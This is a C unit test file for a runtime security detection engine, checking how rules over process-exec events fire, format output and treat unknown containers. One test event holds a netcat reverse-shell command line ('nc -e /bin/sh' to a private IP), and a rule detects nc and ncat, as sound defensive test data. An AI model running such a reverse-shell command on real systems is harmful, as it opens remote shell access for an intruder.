/* test_engine.c - claims about rules over events, from the text of a rule to its output. */
#include "detect/engine.h"

#include "test.h"

struct world {
	struct ruleset rules;
	struct engine *engine;
	struct lineage *lineage;
	struct detect_event event;
	char seen[1024]; /* names of the rules that held, each with a ';' */
	struct buf output;
};

static struct world w;

static int setup(void **state)
{
	struct err e = ERR_INIT;

	memset(&w, 0, sizeof(w));
	ruleset_init(&w.rules);
	buf_init(&w.output, 65536);
	if (lineage_new(1000, &w.lineage, &e) < 0)
		return -1;
	w.event.ancestry = lineage_ancestry(w.lineage);
	return 0;
}

static int teardown(void **state)
{
	engine_free(w.engine);
	lineage_free(w.lineage);
	ruleset_fini(&w.rules);
	buf_fini(&w.output);
	return 0;
}

static void load(const char *text, struct engine_options options)
{
	struct err e = ERR_INIT;

	assert_int_equal(ruleset_add_text(&w.rules, "rules.yaml", span_of(text), &e), 0);
	assert_int_equal(ruleset_compile(&w.rules,
					 &(struct ruleset_options){.threshold = PRIORITY_DEBUG},
					 &e),
			 0);
	for (size_t i = 0; i < w.rules.diagnostics.n; i++)
		print_error("%.*s\n", (int)w.rules.diagnostics.items[i].text.n,
			    (const char *)w.rules.diagnostics.items[i].text.p);
	assert_int_equal(w.rules.diagnostics.errors, 0);
	if (engine_new(&w.rules, &options, &w.engine, &e) < 0)
		fail_msg("%s", e.text);
}

/* A rule of that name and condition; the other keys do not matter. */
#define RULE(name, condition)                                                       \
	"- rule: " name "\n  desc: d\n  condition: " condition "\n"                 \
	"  output: \"%proc.name in %container.name by %user.uid: %proc.cmdline\"\n" \
	"  priority: WARNING\n"

static void on_hit(void *ctx, const struct rule *rule)
{
	size_t n = strlen(w.seen);

	(void)snprintf(w.seen + n, sizeof(w.seen) - n, "%.*s;", (int)rule->name.n,
		       (const char *)rule->name.p);
	engine_output(w.engine, rule, &w.output);
}

/* Gives the event to the rules; what held is in w.seen and w.output. */
static void give(struct event *ev)
{
	struct err e = ERR_INIT;

	w.seen[0] = '\0';
	buf_clear(&w.output);
	assert_int_equal(lineage_feed(w.lineage, ev, &e), 0);
	w.event.ev = ev;
	w.event.number++;
	(void)engine_event(w.engine, &w.event, on_hit, NULL); /* told by w.seen */
}

static struct process shell = {
	.rev = 1, .start_ns = 5, .pid = 41, .ppid = 1, .uid = 1000, .loginuid = UINT32_MAX};

static struct event exec_of(const char *comm, const char *exe, const char *argv)
{
	struct event ev;

	shell.comm = span_of(comm);
	shell.exe = span_of(exe);
	event_init(&ev, EVENT_PROCESS_EXEC);
	ev.process = &shell;
	ev.value[FIELD_SYSCALL].u = 59;
	ev.value[FIELD_PATH].bytes = span_of(exe);
	ev.value[FIELD_ARGV].bytes = span_of(argv);
	return ev;
}

static void a_rule_holds_for_what_it_describes_and_nothing_else(void **state)
{
	struct event ev = exec_of("nc", "/bin/nc", "nc -e /bin/sh 10.0.0.1 4444");

	load(RULE("tool", "evt.type in (execve, execveat) and proc.name in (nc, ncat)"),
	     (struct engine_options){.mode = MATCH_AMBER});
	give(&ev);
	assert_string_equal(w.seen, "tool;");
	ev = exec_of("ls", "/bin/ls", "ls -l");
	give(&ev);
	assert_string_equal(w.seen, "");
	event_init(&ev, EVENT_PROCESS_EXIT);
	ev.process = &shell;
	give(&ev);
	assert_string_equal(w.seen, "");
}

static void the_output_tells_fields_and_what_is_missing(void **state)
{
	static const struct container nameless = {.id = {(const uint8_t *)"abc", 3}};
	struct event ev = exec_of("nc", "/bin/nc", "nc -l 1");

	ev.container = &nameless;
	load(RULE("tool", "evt.type=execve and proc.name=nc"),
	     (struct engine_options){.mode = MATCH_FALCO});
	give(&ev);
	assert_string_equal(w.seen, "tool;");
	assert_string_equal(buf_text(&w.output), "nc in <NA> by 1000: nc -l 1");
}

/* Falco's false alarms when it does not know the image yet. */
static void what_is_not_known_makes_no_rule_hold(void **state)
{
	static const struct container unknown = {.id = {(const uint8_t *)"abc", 3}};
	static const char text[] = RULE("in",
					"evt.type=execve and container.image.repository in (good)")
		RULE("not in", "evt.type=execve and not container.image.repository in (good)");
	struct event ev = exec_of("sh", "/bin/sh", "sh");

	ev.container = &unknown;
	load(text, (struct engine_options){.mode = MATCH_AMBER});
	give(&ev);
	assert_string_equal(w.seen, "");
}

static void in_exact_mode_it_is_false(void **state)
{
	static const struct container unknown = {.id = {(const uint8_t *)"abc", 3}};
	static const char text[] = RULE("in",
					"evt.type=execve and container.image.repository in (good)")
		RULE("not in", "evt.type=execve and not container.image.repository in (good)");
	struct event ev = exec_of("sh", "/bin/sh", "sh");

	ev.container = &unknown;
	load(text, (struct engine_options){.mode = MATCH_FALCO});
	give(&ev);
	assert_string_equal(w.seen, "not in;");
}

static void all_rules_that_hold_are_told_unless_the_first_wins(void **state)
{
	static const char text[] = RULE("one", "evt.type=execve and proc.name=sh")
		RULE("two", "evt.type=execve and proc.name startswith s");
	struct event ev = exec_of("sh", "/bin/sh", "sh");
	struct engine_stats stats;

	load(text, (struct engine_options){.mode = MATCH_AMBER});
	give(&ev);
	assert_string_equal(w.seen, "one;two;");
	engine_get_stats(w.engine, &stats);
	assert_int_equal(stats.hits, 2);
	assert_int_equal(stats.checks, 3); /* evt.type=execve is one */
	teardown(NULL);
	setup(NULL);
	load(text, (struct engine_options){.mode = MATCH_AMBER, .first_match = true});
	give(&ev);
	assert_string_equal(w.seen, "one;");
}

static void parents_and_transformers_are_fields_too(void **state)
{
	struct process parent = {.rev = 9, .start_ns = 1, .pid = 1, .comm = span_of("nginx")};
	struct event ev;

	load(RULE("shell of a server",
		  "evt.type=execve and proc.pname=nginx and toupper(proc.name)=SH and "
		  "proc.name != val(proc.pname)"),
	     (struct engine_options){.mode = MATCH_AMBER});
	event_init(&ev, EVENT_PROCESS_EXEC);
	ev.process = &parent;
	ev.value[FIELD_SYSCALL].u = 59;
	give(&ev);
	assert_string_equal(w.seen, "");
	shell.parent_start_ns = 1;
	ev = exec_of("sh", "/bin/sh", "sh -c id");
	give(&ev);
	assert_string_equal(w.seen, "shell of a server;");
}

static void a_rule_of_what_cannot_be_answered_is_told(void **state)
{
	const struct engine_blind *blinds;
	size_t n;

	load(RULE("buffer", "evt.type=execve and evt.buffer contains x"),
	     (struct engine_options){.mode = MATCH_AMBER});
	blinds = engine_blinds(w.engine, &n);
	assert_int_equal(n, 1);
	assert_true(span_is(blinds[0].field, "evt.buffer"));
	assert_true(*blinds[0].why);
}

#define TEST(name) cmocka_unit_test_setup_teardown(name, setup, teardown)

int main(void)
{
	const struct CMUnitTest tests[] = {
		TEST(a_rule_holds_for_what_it_describes_and_nothing_else),
		TEST(the_output_tells_fields_and_what_is_missing),
		TEST(what_is_not_known_makes_no_rule_hold),
		TEST(in_exact_mode_it_is_false),
		TEST(all_rules_that_hold_are_told_unless_the_first_wins),
		TEST(parents_and_transformers_are_fields_too),
		TEST(a_rule_of_what_cannot_be_answered_is_told),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
